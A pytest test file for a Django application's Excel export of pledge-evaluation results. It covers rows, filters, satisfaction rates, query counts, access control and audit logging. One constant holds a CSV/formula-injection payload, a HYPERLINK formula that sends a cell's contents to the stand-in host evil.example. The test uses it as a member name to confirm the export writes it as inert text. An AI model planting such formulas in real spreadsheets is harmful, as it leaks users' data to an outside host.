"""评诺结果 export (evaluations/results_export.py): the evaluation list's rows as a workbook."""
import io
import zipfile

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from openpyxl import load_workbook

from evaluations import services
from evaluations.models import Fulfilment, Rating
from evaluations.results_export import results_export
from orgs.models import AuditEvent
from tests.conftest import make_member
from tests.evaluations.builders import CLOSED, OPEN, assessed, cast, published_org, published_pledge

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"点击领取")'
URL = reverse("evaluations:results_xlsx")


def _book(handle):
    data = handle.read()
    return data, load_workbook(io.BytesIO(data))


def _rows(handle):
    return list(_book(handle)[1].active.iter_rows(values_only=True))


@pytest.fixture
def voiced(world):
    """member_a's pledge with 3 ballots, a leader's comment and an assessment; branch A's own
    commitment without any; a hostile-named member's pledge."""
    c = published_pledge(world)
    cast(c, Rating.SATISFIED, 2)
    cast(c, Rating.UNSATISFIED, 1)
    services.leader_comment_save(actor=world.committee_secretary, commitment=c, rating=Rating.SATISFIED,
                                 comment="承诺具体，落实有力。")
    assessed(world, c, Fulfilment.FULFILLED)
    published_org(world)
    published_pledge(world, member=make_member(world.branch_a, HOSTILE))
    return c


def test_rows_while_the_window_is_open_show_only_the_votes(world, voiced):
    data, wb = _book(results_export(actor=world.committee_secretary, campaign=world.campaign, org=world.committee,
                                    today=OPEN))
    rows = list(wb.active.iter_rows(values_only=True))
    assert rows[0][0] == "市某局机关党委2010年创先争优公开承诺评诺结果"
    assert "群众评议进行中" in rows[1][0]
    assert rows[2][:5] == ("序号", "承诺主体", "类型", "所属党组织", "审核党组织")
    body = {r[1]: r for r in rows[3:]}
    assert set(body) == {"李娜", "第一党支部", HOSTILE}
    li = body["李娜"]
    assert li[2:5] == ("党员承诺", "第一党支部", "第一党支部")
    assert li[5] == 1 and li[6] == "满意"
    assert li[7] == 3 and li[8] is None  # votes only, no 满意率 while open
    assert li[9:11] == ("已兑现", "优秀")
    assert li[11] == 100 and li[12] == "已兑现"  # leader 满意 and 已兑现, the public not yet counted
    assert li[13] == "已考核待公布" and li[15] == "未公布"
    org = body["第一党支部"]
    assert org[2:4] == ("党组织承诺", "市某局机关党委") and org[9] == "待考核" and org[11] is None
    # The hostile name is a string cell, never a formula.
    ws = wb.active
    cell = next(r[1] for r in ws.iter_rows(min_row=4) if r[1].value == HOSTILE)
    assert cell.data_type == "s"
    assert ws.cell(row=4, column=1).data_type == "n"
    score = next(r[11] for r in ws.iter_rows(min_row=4) if r[1].value == "李娜")
    assert score.data_type == "n"
    assert "<f>" not in zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
    event = AuditEvent.objects.get(action="evaluations.results_export")
    assert event.organisation == world.committee and event.detail["campaign"] == 2010


def test_satisfaction_rate_after_the_window_has_closed(world, voiced):
    rows = _rows(results_export(actor=world.committee_secretary, campaign=world.campaign, org=world.committee,
                                today=CLOSED))
    li = next(r for r in rows[3:] if r[1] == "李娜")
    assert li[7] == 3 and li[8] == pytest.approx(66.7)
    assert "群众评议已结束" in rows[1][0]


def test_filters_are_those_of_the_list(world, voiced):
    rows = _rows(results_export(actor=world.committee_secretary, campaign=world.campaign, org=world.committee,
                                kind="member", state="unassessed", today=OPEN))
    assert [r[1] for r in rows[3:]] == [HOSTILE]
    assert "筛选：党员承诺、待考核" in rows[1][0]


def test_query_count_does_not_grow_with_rows(world):
    def count():
        with CaptureQueriesContext(connection) as ctx:
            _rows(results_export(actor=world.city_secretary, campaign=world.campaign, today=OPEN))
        return len(ctx.captured_queries)

    published_pledge(world)
    count()  # warm the caches
    few = count()
    for n in range(4):
        c = published_pledge(world, member=make_member(world.branch_a, f"党员{n}"))
        cast(c, Rating.BASIC, 1)
    published_org(world)
    assert count() == few


def test_download_view(world, voiced, as_user):
    response = as_user(world.staff_a).get(URL, {"org": world.branch_a.pk, "kind": "member"})
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    assert "filename*=UTF-8''" in response["Content-Disposition"]
    rows = _rows(io.BytesIO(b"".join(response.streaming_content)))
    assert {r[1] for r in rows[3:]} == {"李娜", HOSTILE}
    assert AuditEvent.objects.filter(action="evaluations.results_export", organisation=world.branch_a).count() == 1


def test_the_list_links_to_the_export(world, as_user):
    html = as_user(world.staff_a).get(reverse("evaluations:list"), {"kind": "member"}).content.decode()
    assert f"{URL}?kind=member" in html


@pytest.mark.parametrize("who", ["staff_a", "outsider", "member_user_a", "auditor"])
def test_an_organisation_out_of_reach_is_404(world, as_user, who):
    response = as_user(getattr(world, who)).get(URL, {"org": world.branch_b.pk})
    assert response.status_code == 404
    assert not AuditEvent.objects.filter(action="evaluations.results_export").exists()


@pytest.mark.parametrize("who", ["outsider", "member_user_a", "auditor"])
def test_non_readers_get_404_without_org(world, as_user, who):
    assert as_user(getattr(world, who)).get(URL).status_code == 404
